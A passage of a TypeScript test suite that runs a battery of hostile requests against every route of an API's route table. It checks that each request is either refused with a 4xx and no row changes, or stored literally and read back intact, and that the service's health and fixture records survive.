  // Hostile text in an otherwise valid request: stored literally, or refused by a field's format.
  check(res.status < 300 || (res.status >= 400 && res.status < 500), () => `expected 2xx or 4xx, got ${said()}`);
  if (res.status >= 400) {
    const after = await rowCounts();
    check(sameCounts(before, after) === '', () => `refused (${res.status}) but rows changed: ${sameCounts(before, after)}`);
    return;
  }
  if (c.expect.stored !== '' && route.method === 'post') {
    check(containsString(res.body, c.expect.stored), () => `the answer does not carry the literal text: ${said()}`);
    // And read back through the API (the route that shows what was created).
    const created = res.body as { id?: string };
    const reader = API_ROUTES.find((r) => r.method === 'get' && (r.path === `${route.path}/:${pathParams(r).at(-1)}` || r.path === route.path));
    if (reader && created.id) {
      const lastParam = pathParams(reader).at(-1);
      const path = reader.path === route.path ? apiPath(reader) : apiPath(reader, lastParam ? { [lastParam]: created.id } : {});
      const query = reader.path === route.path && reader.query.safeParse({ limit: '200' }).success ? '?limit=200' : '';
      const read = await rawHttp(h.url, { method: 'GET', path: `${path}${query}`, headers: [bearer(KEY_A)] });
      check(read.status === 200 && containsString(read.body, c.expect.stored), () => `not read back literally by ${routeKey(reader)}: ${read.status} ${read.text.slice(0, 200)}`);
    }
  }
  // The tables are all still there.
  const tables = Object.keys(await rowCounts()).sort();
  check(tables.join() === [...tableNames].sort().join(), () => `tables changed: ${tables.join()}`);
}

describe('bad-input battery over the route table', () => {
  it('covers every route of the table, and every route with a body has a valid fixture', () => {
    expect(API_ROUTES.length).toBeGreaterThan(0);
    for (const route of API_ROUTES.filter(hasBody)) {
      const body = validBody(route);
      expect({ route: routeKey(route), valid: route.body!.safeParse(body).success }).toEqual({ route: routeKey(route), valid: true });
    }
  });

  describe.each(API_ROUTES.map((route) => [routeKey(route), route] as const))('%s', (_name, route) => {
    const cases = casesFor(route);
    it(`answers ${cases.length} hostile requests with a 4xx in the error shape, storing nothing it should not, and stays healthy`, async () => {
      // Every case runs; all failures are reported together.
      const failures: string[] = [];
      for (const c of cases) {
        try {
          await checkCase(c, route);
        } catch (err) {
          failures.push(`${c.name}: ${err instanceof Error ? err.message : String(err)}`);
        }
      }
      expect(failures).toEqual([]);
      const health = await rawHttp(h.url, { method: 'GET', path: `${API_BASE_PATH}/health` });
      expect(health.status).toBe(200);
      // The fixtures survived: the task never started, the network is whole.
      expect((await h.deps.store.tasks.getRow('tenant-a', ids.task_id!))?.status).toBe('pending');
      expect((await h.deps.store.networks.get('tenant-a', ids.network_id!))?.agents?.some((a) => a.id === ids.agent_id)).toBe(true);
      expect(await h.deps.store.tools.get('tenant-a', ids.network_id!, ids.tool_id!)).not.toBeNull();
      expect((await h.deps.store.approvals.get('tenant-a', ids.approval_id!))?.status).toBe('pending');
    }, 60_000);
  });
});
